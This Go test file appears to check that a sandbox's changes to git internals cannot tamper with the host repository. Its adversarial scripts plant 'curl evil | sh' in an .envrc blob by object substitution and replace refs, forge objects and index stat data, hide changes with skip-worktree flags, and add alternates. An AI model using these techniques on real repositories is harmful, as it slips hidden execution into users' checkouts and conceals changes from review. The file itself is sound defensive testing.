package gitstate

import (
	"bytes"
	"crypto/sha1"
	"encoding/hex"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hostObjects lists every file under the host's objects/ with its bytes.
func hostObjects(t *testing.T, r *testRepo) map[string][]byte {
	t.Helper()
	out := map[string][]byte{}
	root := filepath.Join(r.gitdir(), "objects")
	filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			rel, _ := filepath.Rel(root, p)
			out[rel] = b
		}
		return nil
	})
	return out
}

// TestObjectsRewrittenInsideStayTheHosts: the sandbox rewrites an object
// the host has (chmod and write, and replacing the file), deletes the
// rest and writes alternates: the host's objects are byte for byte what
// they were, and its checkout writes the committed content.
func TestObjectsRewrittenInsideStayTheHosts(t *testing.T) {
	r := newRepo(t)
	r.write(".envrc", "echo committed\n")
	r.git("add", ".envrc")
	r.git("commit", "-q", "-m", "envrc")
	r.git("repack", "-q")
	r.write("loose.txt", "loose\n")
	r.git("add", "loose.txt")
	r.git("commit", "-q", "-m", "loose")
	before := hostObjects(t, r)
	base := r.take()
	o := r.overlay()
	// The blob of .envrc, loose or packed: evil content under its name.
	o.run(`set -e
blob=$(git rev-parse HEAD:.envrc)
evil=$(echo 'curl evil | sh' | git hash-object --stdin -w)
f=.git/objects/$(echo $blob | cut -c1-2)/$(echo $blob | cut -c3-)
mkdir -p $(dirname $f)
cp .git/objects/$(echo $evil | cut -c1-2)/$(echo $evil | cut -c3-) $f.new
[ -e $f ] && chmod u+w $f
mv -f $f.new $f
for p in .git/objects/pack/*.pack; do chmod u+w $p; printf 'garbage' | dd of=$p bs=1 seek=40 conv=notrunc 2>/dev/null; done
mkdir -p /tmp/elsewhere
echo /tmp/elsewhere > .git/objects/info/alternates
echo http://example.com/objects > .git/objects/info/http-alternates
`)
	rep := o.adopt(base, Options{RunID: "t"})
	after := hostObjects(t, r)
	for name, b := range before {
		if !bytes.Equal(after[name], b) {
			t.Errorf("host object file %s changed or went", name)
		}
	}
	for _, name := range []string{"info/alternates", "info/http-alternates"} {
		if _, ok := after[name]; ok {
			t.Errorf("objects/%s reached the host", name)
		}
	}
	if !contains(rep.Dropped, "objects/info/alternates") || !contains(rep.Dropped, "objects/info/http-alternates") {
		t.Errorf("alternates not reported dropped: %v", rep.Dropped)
	}
	r.fsck()
	os.Remove(filepath.Join(r.dir, ".envrc"))
	r.git("checkout", "--", ".envrc")
	if b, _ := os.ReadFile(filepath.Join(r.dir, ".envrc")); string(b) != "echo committed\n" {
		t.Fatalf("checkout wrote %q", b)
	}
	// Wiping objects/ inside removes nothing on the host.
	base = r.take()
	o = r.overlay()
	o.run(`rm -rf .git/objects/* && ls .git/objects | wc -l`)
	rep = o.adopt(base, Options{RunID: "t2"})
	if !contains(rep.Dropped, "deletions not adopted") {
		t.Errorf("the deletions are not reported: %v", rep.Dropped)
	}
	for name := range before {
		if _, ok := hostObjects(t, r)[name]; !ok {
			t.Errorf("host object file %s went", name)
		}
	}
	r.fsck()
}

// TestNewObjectsAdoptedVerified: commits made inside (loose objects, and
// a pack made by repack) reach the host; a ref naming an object whose
// content does not hash to its name is not adopted, and says so.
func TestNewObjectsAdoptedVerified(t *testing.T) {
	r := newRepo(t)
	base := r.take()
	o := r.overlay()
	o.run(`set -e
echo a > a && git add a && git commit -q -m a
git checkout -q -b packed
for i in $(seq 1 150); do echo $i > f$i; done
git add . && git commit -q -m many && git repack -q -d
git checkout -q main
echo b > b && git add b && git commit -q -m b
`)
	rep := o.adopt(base, Options{RunID: "t"})
	if rep.Incomplete || !contains(rep.Applied, "objects (") || !contains(rep.Applied, "refs/heads/packed") || !contains(rep.Applied, "refs/heads/main") {
		t.Fatalf("not adopted: %+v", rep)
	}
	r.fsck()
	if got := r.git("log", "--format=%s", "packed"); !strings.Contains(got, "many") {
		t.Fatalf("log: %s", got)
	}

	// A forged loose object: a commit's name, another commit's bytes.
	base = r.take()
	o = r.overlay()
	o.run(`set -e
echo c > c && git add c && git commit -q -m c
good=$(git rev-parse HEAD)
git commit -q --allow-empty -m other
other=$(git rev-parse HEAD)
forged=$(echo $good | sed 's/^\(..\)\(.*\)$/\1\/\2/')
cp .git/objects/$(echo $other | sed 's/^\(..\)\(.*\)$/\1\/\2/') .git/objects/$forged.t
chmod u+w .git/objects/$forged && mv -f .git/objects/$forged.t .git/objects/$forged
echo $good > .git/refs/heads/forged
`)
	rep = o.adopt(base, Options{RunID: "t2"})
	if !rep.Incomplete || !contains(rep.Dropped, "does not hash to its name") || !contains(rep.Dropped, "refs/heads/forged") {
		t.Fatalf("forged object not refused: %+v", rep)
	}
	if r.rev("refs/heads/forged") != "" {
		t.Fatal("a ref to a forged object was adopted")
	}
	r.fsck()
}

// TestIndexFlagsCleared: the sandbox marks tracked files skip-worktree
// and assume-unchanged, forges stat data and leaves an untracked cache
// and an fsmonitor token, then changes the files: the host's git status
// shows every change, and the report says what was cleared.
func TestIndexFlagsCleared(t *testing.T) {
	r := newRepo(t)
	for _, f := range []string{"a", "b", "c"} {
		r.write(f, f+"\n")
	}
	r.git("add", "a", "b", "c")
	r.git("commit", "-q", "-m", "abc")
	r.git("update-index", "--assume-unchanged", "c") // the user's own: stays
	base := r.take()
	o := r.overlay()
	o.run(`set -e
git -c core.untrackedCache=true -c core.fsmonitor=false update-index --index-version 4 --untracked-cache
git update-index --skip-worktree a
git update-index --assume-unchanged b
git -c core.untrackedCache=true status --porcelain >/dev/null
echo hidden > a && echo hidden > b
`)
	rep := o.adopt(base, Options{RunID: "t"})
	if !contains(rep.Applied, "index") || !contains(rep.Dropped, "skip-worktree cleared on a") || !contains(rep.Dropped, "assume-unchanged cleared on b") {
		t.Fatalf("index: %+v", rep)
	}
	if contains(rep.Dropped, "cleared on c") {
		t.Errorf("the host's own flag was cleared: %v", rep.Dropped)
	}
	got := r.git("status", "--porcelain")
	if !strings.Contains(got, " M a") || !strings.Contains(got, " M b") {
		t.Fatalf("host git status hides the sandbox's changes: %q", got)
	}
	if out := r.git("ls-files", "-v", "c"); !strings.HasPrefix(out, "h ") {
		t.Errorf("the host's assume-unchanged on c went: %q", out)
	}
	r.fsck()

	// Forged stat data: the sandbox stages the changed file (its stat
	// data recorded), then swaps the entry's object id back to the
	// committed one in the index's bytes.
	r.git("update-index", "--no-assume-unchanged", "c")
	r.git("checkout", "--", "a", "b")
	base = r.take()
	o = r.overlay()
	o.run(`set -e
echo z > a
sleep 1.1
git add a
`)
	p := filepath.Join(o.upper, "index")
	data, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	ix, err := ParseIndex(data, 20)
	if err != nil {
		t.Fatal(err)
	}
	old, _ := hex.DecodeString(r.rev("HEAD:a"))
	for i, e := range ix.Entries {
		if e.Path == "a" {
			copy(data[ix.starts[i]+40:], old)
		}
	}
	sum := sha1.Sum(data[:len(data)-20])
	copy(data[len(data)-20:], sum[:])
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
	o.adopt(base, Options{RunID: "t2"})
	if got := r.git("status", "--porcelain"); !strings.Contains(got, " M a") {
		t.Fatalf("host git status hides a's change: %q", got)
	}
}

// TestReplaceRefsNotAdopted: a replace ref made inside (git replace of
// the blob of a committed file with another) is never adopted: the
// host's checkout writes the committed content.
func TestReplaceRefsNotAdopted(t *testing.T) {
	r := newRepo(t)
	r.write(".envrc", "echo committed\n")
	r.git("add", ".envrc")
	r.git("commit", "-q", "-m", "envrc")
	base := r.take()
	o := r.overlay()
	o.run(`set -e
evil=$(printf 'curl evil | sh\n' | git hash-object -w --stdin)
git replace $(git rev-parse HEAD:.envrc) $evil
git pack-refs --all
git replace -f $(git rev-parse HEAD:.envrc) $evil
`)
	rep := o.adopt(base, Options{RunID: "t"})
	if !contains(rep.Dropped, "refs/replace/") {
		t.Errorf("the replace ref is not reported dropped: %v", rep.Dropped)
	}
	if out := r.git("for-each-ref", "refs/replace/"); out != "" {
		t.Fatalf("a replace ref reached the host: %s", out)
	}
	os.Remove(filepath.Join(r.dir, ".envrc"))
	r.git("checkout", "--", ".envrc")
	if b, _ := os.ReadFile(filepath.Join(r.dir, ".envrc")); string(b) != "echo committed\n" {
		t.Fatalf("the host's checkout wrote %q", b)
	}
}

// TestIndexNamingMissingObjectsRefused: an index entry naming an object
// that is nowhere is not adopted.
func TestIndexNamingMissingObjectsRefused(t *testing.T) {
	r := newRepo(t)
	base := r.take()
	o := r.overlay()
	o.run(`git update-index --add --cacheinfo 100644,1234567890123456789012345678901234567890,ghost`)
	rep := o.adopt(base, Options{RunID: "t"})
	if !contains(rep.Dropped, "stages objects the host does not have (ghost)") {
		t.Fatalf("not refused: %+v", rep)
	}
	if out := r.git("ls-files"); strings.Contains(out, "ghost") {
		t.Fatalf("the index naming a missing object was adopted: %s", out)
	}
}
